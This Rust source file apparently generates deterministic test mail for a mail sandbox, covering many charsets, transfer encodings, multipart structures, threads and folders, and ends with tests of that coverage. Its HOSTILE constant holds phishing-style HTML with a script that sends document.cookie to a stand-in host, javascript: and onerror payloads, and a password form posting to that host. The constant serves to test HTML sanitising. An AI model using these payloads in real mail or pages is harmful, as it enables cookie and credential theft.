//! Realistic mail, deterministic by seed: the charsets and encodings real mailboxes hold (UTF-8,
//! ISO-8859-1, windows-1252, Shift_JIS, GB2312, KOI8-R, EUC-KR, ISO-2022-JP; quoted-printable,
//! base64, 8bit; RFC 2047 subjects and names), multipart/alternative, multipart/mixed with
//! binary attachments (one with an RFC 2231 file name), multipart/related with `cid:` images,
//! threads, hostile HTML, spread over every folder, read and unread, starred or not.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

use super::mime::{self, encode_words, mailbox_header, rfc2822_date, Charset, Cte, Part};
use super::store::{NewMessage, Store, StoreError};
use super::Provider;

/// The user folders (Graph) / user labels (Gmail) generated mail goes into.
pub(crate) const USER_FOLDERS: [&str; 2] = ["Projects", "Receipts"];

struct Correspondent {
    name: &'static str,
    address: &'static str,
    charset: Charset,
}

const PEOPLE: &[Correspondent] = &[
    Correspondent {
        name: "José Müller",
        address: "jose.mueller@example.de",
        charset: Charset::Latin1,
    },
    Correspondent {
        name: "François Dupré",
        address: "francois.dupre@example.fr",
        charset: Charset::Windows1252,
    },
    Correspondent {
        name: "山田 太郎",
        address: "taro.yamada@example.jp",
        charset: Charset::ShiftJis,
    },
    Correspondent {
        name: "王小明",
        address: "xiaoming.wang@example.cn",
        charset: Charset::Gb2312,
    },
    Correspondent {
        name: "Ивана Петрова",
        address: "ivana.petrova@example.ru",
        charset: Charset::Koi8R,
    },
    Correspondent {
        name: "김민준",
        address: "minjun.kim@example.kr",
        charset: Charset::EucKr,
    },
    Correspondent {
        name: "佐藤 花子",
        address: "hanako.sato@example.jp",
        charset: Charset::Iso2022Jp,
    },
    Correspondent {
        name: "Zoë Ångström",
        address: "zoe.angstrom@example.se",
        charset: Charset::Utf8,
    },
    Correspondent {
        name: "Łukasz Żółć",
        address: "lukasz@example.pl",
        charset: Charset::Utf8,
    },
    Correspondent {
        name: "Ada Lovelace",
        address: "ada@example.org",
        charset: Charset::Utf8,
    },
    Correspondent {
        name: "Grace Hopper",
        address: "grace.hopper@navy.example",
        charset: Charset::Utf8,
    },
    Correspondent {
        name: "O'Brien, Siobhán",
        address: "siobhan@example.ie",
        charset: Charset::Utf8,
    },
    Correspondent {
        name: "Build Bot",
        address: "ci@builds.example.com",
        charset: Charset::Utf8,
    },
    Correspondent {
        name: "Shop Weekly",
        address: "news@shop.example.com",
        charset: Charset::Utf8,
    },
];

/// Subjects and a body line each charset can hold.
fn phrases(charset: Charset) -> (&'static [&'static str], &'static [&'static str]) {
    match charset {
        Charset::Latin1 => (
            &[
                "Réunion de projet à Genève",
                "Überprüfung der Rechnung",
                "Café, crème et façade",
                "Grüße aus Köln",
            ],
            &[
                "Voilà le résumé de la réunion, à bientôt.",
                "Die Rechnung für März liegt bei; schöne Grüße.",
                "Ça coûte 12,50 — pas de problème.",
            ],
        ),
        Charset::Windows1252 => (
            &[
                "Angebot: 20 € Rabatt – nur heute",
                "“Quoted” subject — with dashes",
                "Prix spécial : 99 € …",
            ],
            &[
                "Le devis s’élève à 1 250 € — merci de confirmer.",
                "“Smart quotes” and an ellipsis…",
                "Bonjour – voici l’offre.",
            ],
        ),
        Charset::ShiftJis | Charset::Iso2022Jp => (
            &[
                "会議の議事録について",
                "日本語のテストメール",
                "お見積もりのご依頼",
                "来週の打ち合わせ",
            ],
            &[
                "お世話になっております。資料を添付いたします。",
                "よろしくお願いいたします。",
                "明日の会議は十時からです。",
            ],
        ),
        Charset::Gb2312 => (
            &[
                "关于项目进度的报告",
                "你好，请查收附件",
                "会议通知：下周一上午",
            ],
            &[
                "你好，附件是本周的报告，请查收。",
                "谢谢！祝好。",
                "会议改到下午三点。",
            ],
        ),
        Charset::Koi8R => (
            &["Отчёт за неделю", "Привет из Москвы", "Счёт на оплату"],
            &[
                "Добрый день! Отчёт во вложении.",
                "Спасибо, всего хорошего.",
                "Встреча переносится на пятницу.",
            ],
        ),
        Charset::EucKr => (
            &[
                "회의 일정 안내",
                "안녕하세요, 자료 보내드립니다",
                "견적서 요청",
            ],
            &[
                "안녕하세요. 자료를 첨부합니다.",
                "감사합니다.",
                "내일 회의는 오전 열 시입니다.",
            ],
        ),
        Charset::Utf8 => (
            &[
                "Quarterly report 📈",
                "Lunch on Friday?",
                "Build failed on main",
                "Your invoice",
                "Zażółć gęślą jaźń",
                "Ångström units ✓",
                "Weekly digest",
                "Trip to Zürich — itinerary",
            ],
            &[
                "Here is the report you asked for. Numbers look good.",
                "Shall we meet at noon? 🍕",
                "The build broke after the last merge; logs attached.",
                "Thanks — see you soon.",
                "Znalazłem błąd w dokumentacji.",
            ],
        ),
    }
}

fn pick<'a, T>(rng: &mut StdRng, list: &'a [T]) -> &'a T {
    &list[rng.gen_range(0..list.len())]
}

fn cte_for(rng: &mut StdRng, charset: Charset) -> Cte {
    let roll = rng.gen_range(0..10);
    match charset {
        Charset::Iso2022Jp => Cte::SevenBit,
        Charset::Utf8 => match roll {
            0..=4 => Cte::QuotedPrintable,
            5..=7 => Cte::Base64,
            _ => Cte::EightBit,
        },
        Charset::Latin1 | Charset::Windows1252 | Charset::Koi8R => {
            if roll < 7 {
                Cte::QuotedPrintable
            } else {
                Cte::EightBit
            }
        }
        _ => {
            if roll < 8 {
                Cte::Base64
            } else {
                Cte::EightBit
            }
        }
    }
}

/// Bytes that look like a file of that type (right magic number, random rest).
fn file_bytes(rng: &mut StdRng, kind: &str, len: usize) -> Vec<u8> {
    let magic: &[u8] = match kind {
        "application/pdf" => b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
        "image/png" => b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
        "image/jpeg" => b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
        "application/zip" => b"PK\x03\x04\x14\x00\x00\x00",
        _ => b"",
    };
    let mut out = magic.to_vec();
    while out.len() < len {
        out.push(rng.gen());
    }
    out
}

const HOSTILE: &str = r#"<html><head><style>body { font-family: Arial }</style><script>document.location='https://evil.example.net/steal?c='+document.cookie</script></head>
<body onload="steal()">
<p>Dear customer,</p>
<p>Your account is locked. <a href="javascript:alert(document.cookie)">Click here to unlock it</a> or
<a href="https://evil.example.net/login" onclick="track()">sign in</a>.</p>
<img src="https://tracker.example.net/pixel.gif?u=42" width="1" height="1">
<img src="x" onerror="alert('owned')">
<iframe src="https://evil.example.net/frame"></iframe>
<form action="https://evil.example.net/collect"><input name="password" type="password"></form>
<p style="background:url(javascript:alert(1))">Security team</p>
</body></html>"#;

struct Parent {
    id: String,
    subject: String,
    message_id: String,
    references: String,
    received_at: i64,
    charset: Charset,
}

/// Appends `count` generated messages as newly arrived mail; returns their ids.
pub(crate) fn generate(
    store: &mut Store,
    count: usize,
    seed: u64,
    days: u32,
    now: i64,
) -> Result<Vec<String>, StoreError> {
    let mut rng = StdRng::seed_from_u64(seed);
    for name in USER_FOLDERS {
        store.user_folder(name, true);
    }
    let owner_name = store.owner.name();
    let owner_address = store.owner.email;
    let window = (days.max(1) as i64) * 86_400_000;
    let mut parents: Vec<Parent> = Vec::new();
    let mut ids = Vec::with_capacity(count);
    for i in 0..count {
        let serial = store.next_seq();
        let folder = match rng.gen_range(0..100) {
            0..=49 => "inbox",
            50..=61 => "sent",
            62..=73 => "archive",
            74..=79 => USER_FOLDERS[0],
            80..=83 => USER_FOLDERS[1],
            84..=88 => "spam",
            89..=94 => "trash",
            _ => "drafts",
        };
        let outgoing = folder == "sent" || folder == "drafts";
        let person = pick(&mut rng, PEOPLE);
        // About a third of the mail answers an earlier message of this batch.
        let parent = (folder != "spam" && !parents.is_empty() && rng.gen_bool(0.3))
            .then(|| rng.gen_range(parents.len().saturating_sub(40)..parents.len()));
        let charset = match (&parent, outgoing) {
            (_, true) => Charset::Utf8,
            (Some(p), false) => parents[*p].charset,
            (None, false) => person.charset,
        };
        let (subjects, lines) = phrases(charset);
        let received_at = match &parent {
            Some(p) => {
                (parents[*p].received_at + rng.gen_range(600_000..3 * 86_400_000)).min(now - 1000)
            }
            None => now - rng.gen_range(60_000..window),
        };
        let subject = match &parent {
            Some(p) => {
                let s = &parents[*p].subject;
                if s.starts_with("Re: ") {
                    s.clone()
                } else {
                    format!("Re: {s}")
                }
            }
            None => pick(&mut rng, subjects).to_string(),
        };
        let domain = owner_address.split('@').nth(1).unwrap_or("sandbox.test");
        let message_id = format!(
            "{seed:x}.{i}.{serial}@{}",
            if outgoing {
                domain
            } else {
                person.address.split('@').nth(1).unwrap_or(domain)
            }
        );
        let b = matches!(
            charset,
            Charset::ShiftJis | Charset::Gb2312 | Charset::EucKr | Charset::Iso2022Jp
        ) || rng.gen_bool(0.3);
        let (from, to) = if outgoing {
            (
                mailbox_header(&owner_name, owner_address, Charset::Utf8, true),
                mailbox_header(person.name, person.address, charset, b),
            )
        } else {
            (
                mailbox_header(person.name, person.address, charset, b),
                mailbox_header(&owner_name, owner_address, Charset::Utf8, false),
            )
        };
        let mut text = format!(
            "{}\n\n{}\n\n-- \n{}\n",
            pick(&mut rng, lines),
            pick(&mut rng, lines),
            if outgoing {
                owner_name.as_str()
            } else {
                person.name
            }
        );
        if let Some(p) = &parent {
            text.push_str(&format!("\n> {}\n", parents[*p].subject));
        }
        let cte = cte_for(&mut rng, charset);
        let html_of = |text: &str| {
            let body: String = text
                .lines()
                .map(|l| format!("<p>{}</p>", l.replace('&', "&amp;").replace('<', "&lt;")))
                .collect();
            format!("<html><body>{body}</body></html>")
        };
        let boundary = |n: u32| format!("----=_Part_{seed}_{i}_{n}");
        let root = match rng.gen_range(0..100) {
            // Plain text.
            0..=34 => Part::text("plain", &text, charset, cte),
            // Text and HTML.
            35..=59 => Part::multipart(
                "alternative",
                boundary(1),
                vec![
                    Part::text("plain", &text, charset, cte),
                    Part::text("html", &html_of(&text), charset, cte_for(&mut rng, charset)),
                ],
            ),
            // Hostile HTML (phishing-style), with a harmless text part.
            60..=64 => Part::multipart(
                "alternative",
                boundary(1),
                vec![
                    Part::text("plain", "Your account is locked. Sign in to unlock it.", Charset::Utf8, Cte::SevenBit),
                    Part::text("html", HOSTILE, Charset::Utf8, Cte::QuotedPrintable),
                ],
            ),
            // Attachments.
            65..=79 => {
                let mut parts = vec![Part::text("plain", &text, charset, cte)];
                let files: [(&str, &str); 5] = [
                    ("application/pdf", "report.pdf"),
                    ("image/png", "screenshot.png"),
                    ("text/csv", "numbers.csv"),
                    ("application/zip", "logs.zip"),
                    ("image/jpeg", "photo.jpg"),
                ];
                for _ in 0..rng.gen_range(1..=2) {
                    let (ct, name) = pick(&mut rng, &files);
                    let len = rng.gen_range(200..6000);
                    let data = if *ct == "text/csv" {
                        format!("id,amount\n1,12.50\n2,{}\n", rng.gen_range(1..999)).into_bytes()
                    } else {
                        file_bytes(&mut rng, ct, len)
                    };
                    parts.push(Part::binary(ct, &data, Some(name), None));
                }
                if rng.gen_bool(0.25) {
                    // RFC 2231: a non-ASCII file name.
                    let data = file_bytes(&mut rng, "application/pdf", 900);
                    parts.push(Part::binary("application/pdf", &data, Some("Überweisung 10 € (März).pdf"), None));
                }
                Part::multipart("mixed", boundary(1), parts)
            }
            // HTML with an inline image.
            80..=89 => {
                let cid = format!("logo-{serial}@sandbox.test");
                let html = format!(
                    "<html><body><p><img src=\"cid:{cid}\" alt=\"logo\"></p>{}</body></html>",
                    html_of(&text)
                        .trim_start_matches("<html><body>")
                        .trim_end_matches("</body></html>")
                );
                let image = file_bytes(&mut rng, "image/png", 400);
                Part::multipart(
                    "related",
                    boundary(1),
                    vec![
                        Part::multipart(
                            "alternative",
                            boundary(2),
                            vec![
                                Part::text("plain", &text, charset, cte),
                                Part::text("html", &html, charset, cte_for(&mut rng, charset)),
                            ],
                        ),
                        Part::binary("image/png", &image, Some("logo.png"), Some(&cid)),
                    ],
                )
            }
            // HTML only (newsletters), with a remote image.
            _ => Part::text(
                "html",
                &format!(
                    "<html><body><h1>{}</h1><img src=\"https://cdn.shop.example.com/banner.jpg\"><p>{}</p></body></html>",
                    subject,
                    pick(&mut rng, lines)
                ),
                charset,
                cte,
            ),
        };
        let date = received_at - rng.gen_range(1_000..120_000);
        let mut headers: Vec<(&str, String)> = vec![
            ("From", from),
            ("To", to),
            ("Subject", encode_words(&subject, charset, b)),
            ("Date", rfc2822_date(date)),
            ("Message-ID", format!("<{message_id}>")),
        ];
        if rng.gen_bool(0.15) {
            let cc = pick(&mut rng, PEOPLE);
            headers.push((
                "Cc",
                mailbox_header(cc.name, cc.address, Charset::Utf8, true),
            ));
        }
        let mut references = String::new();
        if let Some(p) = &parent {
            let p = &parents[*p];
            references = format!("{} <{}>", p.references, p.message_id)
                .trim()
                .to_string();
            headers.push(("In-Reply-To", format!("<{}>", p.message_id)));
            headers.push(("References", references.clone()));
        }
        if !outgoing && person.address.starts_with("news@") {
            headers.push((
                "List-Unsubscribe",
                "<https://shop.example.com/unsubscribe>".into(),
            ));
        }
        let raw = mime::message(&headers, &root);
        let unread = match folder {
            "inbox" => rng.gen_bool(0.45),
            "spam" => rng.gen_bool(0.6),
            "sent" | "drafts" => false,
            _ => rng.gen_bool(0.05),
        };
        let starred = folder != "spam" && folder != "trash" && rng.gen_bool(0.08);
        // An inbox message now and then carries a user label (Gmail) or a category (Outlook).
        let labels = if folder == "inbox" && rng.gen_bool(0.1) {
            match store.provider {
                Provider::Google => vec![USER_FOLDERS[1].to_string()],
                Provider::Microsoft => vec!["Blue category".to_string()],
            }
        } else {
            Vec::new()
        };
        let id = store.insert(NewMessage {
            raw,
            folder: folder.to_string(),
            unread,
            starred,
            received_at,
            thread_of: parent.map(|p| parents[p].id.clone()),
            labels,
        })?;
        parents.push(Parent {
            id: id.clone(),
            subject,
            message_id,
            references,
            received_at,
            charset,
        });
        ids.push(id);
    }
    Ok(ids)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sandbox::MAILBOXES;

    #[test]
    fn the_same_seed_makes_the_same_mail() {
        let now = 1_795_000_000_000;
        let mut a = Store::new(&MAILBOXES[0], 0);
        let mut b = Store::new(&MAILBOXES[0], 0);
        let ids_a = generate(&mut a, 50, 3, 10, now).unwrap();
        let ids_b = generate(&mut b, 50, 3, 10, now).unwrap();
        assert_eq!(ids_a, ids_b);
        for id in &ids_a {
            assert_eq!(a.get(id).unwrap().raw, b.get(id).unwrap().raw);
        }
    }

    #[test]
    fn generated_mail_covers_what_real_mailboxes_hold() {
        let now = 1_795_000_000_000;
        let mut store = Store::new(&MAILBOXES[2], 2);
        let ids = generate(&mut store, 400, 9, 20, now).unwrap();
        let raws: Vec<String> = ids
            .iter()
            .map(|id| String::from_utf8_lossy(&store.get(id).unwrap().raw).to_lowercase())
            .collect();
        for needle in [
            "charset=\"iso-8859-1\"",
            "charset=\"windows-1252\"",
            "charset=\"shift_jis\"",
            "charset=\"gb2312\"",
            "charset=\"koi8-r\"",
            "quoted-printable",
            "content-transfer-encoding: base64",
            "=?shift_jis?b?",
            "multipart/alternative",
            "multipart/mixed",
            "multipart/related",
            "filename*=utf-8''",
            "src=\"cid:",
            "<script>",
            "onerror=",
            "javascript:",
            "in-reply-to:",
        ] {
            assert!(
                raws.iter().any(|r| r.contains(needle)),
                "no message has {needle}"
            );
        }
        let folders: std::collections::BTreeSet<String> =
            store.messages().map(|m| store.control_folder(m)).collect();
        for f in [
            "inbox", "sent", "drafts", "archive", "spam", "trash", "Projects", "Receipts",
        ] {
            assert!(folders.contains(f), "no message in {f}: {folders:?}");
        }
        let threads = store.thread_count();
        assert!(
            threads < ids.len() * 9 / 10,
            "replies thread: {threads} threads"
        );
        assert!(store
            .messages()
            .all(|m| m.received_at <= now && m.received_at > now - 30 * 86_400_000));
        // Every generated message parses with its subject and sender decoded.
        assert!(store
            .messages()
            .all(|m| !m.summary.subject.is_empty() && m.summary.from.is_some()));
    }
}
